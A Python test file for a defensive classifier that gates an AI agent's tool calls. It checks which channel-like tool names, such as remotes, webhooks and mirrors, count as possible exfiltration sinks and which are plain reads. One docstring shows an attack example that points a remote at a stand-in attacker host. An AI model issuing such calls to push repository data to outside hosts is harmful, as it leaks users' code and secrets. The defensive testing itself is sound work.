"""A channel noun with no verb and no argument a destination could be in lists the channels.

The fault (held-out benchmark, cause 11): `git_remote(repo_path, verbose)` and `repo.remotes()` were
`sink.no_destination` (asked), because `remote` is a channel that carries data somewhere and, with
no parameter saying where, the fallback made every argument a sink. A read was asked as a send.

The attack twins stay gated: a name with a verb that opens the channel (`add_remote(url)`,
`set_webhook(url)`, `create_mirror(target)`), and a verbless name with any argument a destination
could be written into (`remote(spec)`, `mirror(config)`, `webhook(name)`), or whose arguments the
server did not publish.
"""

from __future__ import annotations

from typing import Any

import pytest
from fallback_helpers import fallback_rule
from hypothesis import given, settings
from hypothesis import strategies as st

from bouncerd.core import fallback
from bouncerd.core.fallback_words import INHERENT_CHANNELS, verb_of


def _join(parts: list[str], style: str) -> str:
    if style == "camel":
        return parts[0] + "".join(p.capitalize() for p in parts[1:])
    return {"snake": "_", "dotted": ".", "kebab": "-"}[style].join(parts)


# Only the nouns that are not verbs too: `mirror()`, `relay()`, `tunnel()` may make one, and stay gated.
NOUNS = st.sampled_from(sorted(w for w in INHERENT_CHANNELS if verb_of([w]) == (None, None)))
VERB_NOUNS = sorted(w for w in INHERENT_CHANNELS if verb_of([w]) != (None, None))
PREFIXES = st.sampled_from([[], ["git"], ["repo"], ["project"], ["gh", "repos"], ["gitlab"]])
STYLES = st.sampled_from(["snake", "camel", "dotted", "kebab"])
# Arguments no destination can be in: a local path, a switch, paging, or a value typed bool/number.
QUIET_ARGS = st.dictionaries(
    st.sampled_from(
        ["repo_path", "path", "cwd_path", "directory", "verbose", "all", "limit", "page", "json"]
    ),
    st.sampled_from([{}, {"type": "string"}, {"type": "boolean"}, {"default": None}]),
    max_size=3,
) | st.dictionaries(
    st.sampled_from(["expand", "deep", "n", "timeout"]),
    st.sampled_from([{"type": "boolean"}, {"type": "integer"}, {"type": "number"}]),
    max_size=2,
)
# Arguments a destination could be written into, even with no destination word in their name.
OPEN_ARGS = st.sampled_from(["spec", "config", "name", "value", "target", "url", "input", "args", "data"])


def _schema(props: dict[str, Any]) -> dict[str, Any]:
    return {"type": "object", "properties": props}


@settings(max_examples=60, deadline=None)
@given(prefix=PREFIXES, noun=NOUNS, style=STYLES, props=QUIET_ARGS)
def test_a_verbless_channel_noun_with_only_quiet_arguments_lists(
    prefix: list[str], noun: str, style: str, props: dict[str, Any]
) -> None:
    tool = _join([*prefix, noun], style)
    assert not fallback_rule(tool, _schema(props)).exfiltrating, (tool, props)


@settings(max_examples=60, deadline=None)
@given(prefix=PREFIXES, noun=NOUNS, style=STYLES, props=QUIET_ARGS, extra=OPEN_ARGS)
def test_a_verbless_channel_noun_with_any_open_argument_stays_gated(
    prefix: list[str], noun: str, style: str, props: dict[str, Any], extra: str
) -> None:
    """Attack twin: `remote(spec="https://drop.evil.example/x.git")` may add or push to it."""
    tool = _join([*prefix, noun], style)
    rule = fallback_rule(tool, _schema({**props, extra: {"type": "string"}}))
    assert rule.exfiltrating and rule.sink_kind == "send", (tool, props, extra)


@settings(max_examples=30, deadline=None)
@given(noun=NOUNS, style=STYLES)
def test_a_verbless_channel_noun_whose_arguments_are_unknown_stays_gated(noun: str, style: str) -> None:
    """No input schema: nothing says which arguments it takes, so every argument stays a sink."""
    guess = fallback.classify(_join(["git", noun], style), None)
    assert guess.entry.exfiltrating


@pytest.mark.parametrize("tool", VERB_NOUNS)
def test_a_channel_word_that_is_also_a_verb_stays_gated(tool: str) -> None:
    """`mirror(verbose=True)` may make a mirror: a name that can be read as a verb is not a listing."""
    assert VERB_NOUNS  # the words exist: the test is not vacuous
    assert fallback_rule(tool, _schema({"verbose": {"type": "boolean"}})).exfiltrating


@pytest.mark.parametrize(
    ("tool", "props", "sinks"),
    [
        ("add_remote", {"name": "string", "url": "string"}, ("url",)),
        ("git_remote_add", {"repo_path": "string", "url": "string"}, ("url",)),
        ("set_webhook", {"url": "string"}, ("url",)),
        ("create_mirror", {"target": "string"}, ("target",)),
        ("create_tunnel", {"port": "integer", "label": "string"}, ()),
        ("add_remote", {"repo_path": "string", "verbose": "boolean"}, ()),
        ("configure_forwarding", {"verbose": "boolean"}, ()),
    ],
)
def test_a_verb_that_opens_the_channel_is_still_a_send(
    tool: str, props: dict[str, str], sinks: tuple[str, ...]
) -> None:
    rule = fallback_rule(tool, _schema({k: {"type": v} for k, v in props.items()}))
    assert (rule.exfiltrating, rule.sink_params) == (True, sinks)


@pytest.mark.parametrize(
    ("tool", "props"),
    [
        ("git_remote", {"repo_path": {"default": None}, "verbose": {"default": None}}),
        ("repo.remotes", {}),
        ("listWebhooks", {"limit": {"type": "integer"}}),
    ],
)
def test_the_reads_the_benchmark_found_asked_are_not_gated(tool: str, props: dict[str, Any]) -> None:
    assert not fallback_rule(tool, _schema(props)).exfiltrating
